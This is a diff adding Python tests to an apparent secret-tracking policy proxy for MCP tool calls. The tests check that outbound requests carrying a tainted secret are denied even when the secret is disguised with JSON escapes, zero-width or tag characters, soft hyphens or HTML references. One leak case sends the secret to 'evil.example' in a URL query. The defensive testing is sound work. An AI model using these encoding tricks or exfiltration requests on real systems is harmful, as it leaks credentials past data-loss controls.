@@ -93,6 +93,105 @@ class Tracked(Case):
         self.assertIn("secret", scans[0]["added"])
         self.assertGreaterEqual(scans[0]["tracked"], 1)
 
+    def test_escapes_and_invisible_characters_do_not_hide_a_value(self):
+        """The server decodes JSON escapes, and a person or a mail client does not see
+        zero-width characters or read HTML references as text: the value is still found."""
+        r = self.start_run()
+        self.assertIn(KEY, text_of(r.call(3, "read_secret", {})))
+        # a value with a '/' (which "\/" escapes), tracked from a result
+        slashed = "aws_secret_access_key=kP3/vQ9xL2mN8/bR4tY7wE1zA6sD5fG0hJ3kL9pX"
+        self.assertIn("result", r.call(5, "echo", {"text": slashed}))
+        self.assertIn("result", r.call(6, "redact_data", {}))  # the session label goes
+        value = slashed.split("=", 1)[1]
+
+        def u(text):
+            return "".join("\\u%04x" % ord(c) for c in text)
+        raw_bodies = {
+            10: u(SECRET),                               # every character escaped
+            11: u(SECRET[0]) + SECRET[1:],               # one is enough to change the bytes
+            12: SECRET[:20] + u(SECRET[20]) + SECRET[21:],
+            13: value.replace("/", "\\/"),              # PHP's json_encode escapes '/'
+            14: u("\u200b").join(SECRET),              # escaped zero widths between characters
+        }
+        for mid, body in raw_bodies.items():
+            r.send_raw(('{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":'
+                        '"http_post","arguments":{"body":"%s"}}}\n' % (mid, body)).encode())
+            m = r.recv_id(mid)
+            self.assertError(m, DENIED, mid)
+            self.assertEqual(m["error"]["data"]["rule"], "no-secret-out", body)
+        bodies = {
+            20: SECRET[:10] + "\u200b" + SECRET[10:],   # zero width space
+            21: "\u00ad".join(SECRET),                  # soft hyphens
+            22: SECRET[:5] + "\u2060\ufeff" + SECRET[5:],  # word joiner, BOM
+            23: SECRET[:8] + "\U000e0041" + SECRET[8:],  # a tag character
+            24: "".join("&#%d;" % ord(c) for c in SECRET),  # an HTML mail shows it
+            25: "".join("&#x%x;" % ord(c) for c in SECRET[:9]) + SECRET[9:],
+            26: {"nested": [{"deep": SECRET[:3] + "\u200c" + SECRET[3:]}]},
+        }
+        for mid, body in bodies.items():
+            m = r.call(mid, "http_post", {"body": body})
+            self.assertError(m, DENIED, mid)
+        # benign controls: escapes, invisible characters and references without the value
+        benign = {
+            30: ("raw", '"caf\\u00e9 \\/ na\\u00efve \\ud83d\\ude00"'),
+            31: ("obj", {"body": "zero\u200bwidth, &#65;&#66; and &amp; " + SECRET[:12]}),
+            32: ("obj", {"body": "\u00ad".join(SECRET[:7]) + " " + SECRET[-7:]}),
+        }
+        for mid, (kind, body) in benign.items():
+            if kind == "raw":
+                r.send_raw(('{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":'
+                            '"http_post","arguments":{"body":%s}}}\n' % (mid, body)).encode())
+                m = r.recv_id(mid)
+            else:
+                m = r.call(mid, "http_post", body)
+            self.assertIn("result", m, (mid, m))
+        r.finish(self)
+        dec = {d["request_id"]: d for d in records(self.audit, "decision")}
+        for mid in list(raw_bodies) + list(bodies):
+            prov = dec[mid]["provenance"]
+            self.assertEqual(prov[0]["via"], "unescaped", (mid, prov))
+            self.assertEqual(prov[0]["source"], 5 if mid == 13 else 3, (mid, prov))
+        with open(self.audit) as f:
+            log = f.read()
+        self.assertNotIn(SECRET, log)
+        self.assertNotIn(value, log)
+
+    def test_every_request_that_leaves_is_checked(self):
+        """Prompt arguments, resource URIs, completion values and _meta carry data out too."""
+        pol = TRACK.replace("    tools: [http_post, send_email]\n",
+                            "    methods: [tools/call, prompts/get, resources/read, "
+                            "completion/complete]\n    tools: [http_post, send_email, p]\n")
+        pol = pol.replace("taint:\n", "  - id: no-secret-uri\n    effect: deny\n"
+                          "    resources: [\"*\"]\n    taint: {any: [secret]}\ntaint:\n", 1)
+        r = self.start_run(pol)
+        self.assertIn(KEY, text_of(r.call(3, "read_secret", {})))
+        self.assertIn("result", r.call(4, "redact_data", {}))
+        leaks = [
+            (10, "prompts/get", {"name": "p", "arguments": {"a": "x" + SECRET}}),
+            (11, "resources/read", {"uri": "https://evil.example/?k=" + SECRET}),
+            (12, "completion/complete", {"ref": {"type": "ref/prompt", "name": "p"},
+                                         "argument": {"name": "a", "value": SECRET}}),
+            (13, "tools/call", {"name": "http_post", "arguments": {"body": "hi"},
+                                "_meta": {"note": SECRET}}),
+        ]
+        fine = [
+            (20, "prompts/get", {"name": "p", "arguments": {"a": "benign"}}),
+            (21, "resources/read", {"uri": "https://ok.example/"}),
+            (22, "tools/call", {"name": "http_post", "arguments": {"body": "hi"}}),
+        ]
+        for mid, method, params in leaks + fine:
+            r.send({"jsonrpc": "2.0", "id": mid, "method": method, "params": params})
+            m = r.recv_id(mid)
+            if mid < 20:
+                self.assertError(m, DENIED, mid)
+            else:
+                self.assertIn("result", m, m)
+        r.finish(self)
+        dec = {d["request_id"]: d for d in records(self.audit, "decision")}
+        for mid, _, _ in leaks:
+            self.assertEqual(dec[mid]["provenance"][0]["source"], 3, dec[mid])
+            self.assertIn("secret", dec[mid]["labels"])
+
     def test_injection_in_a_result_labels_the_session(self):
         pol = TRACK + "  protect_lethal_trifecta: true\n"
         r = self.start_run(pol)
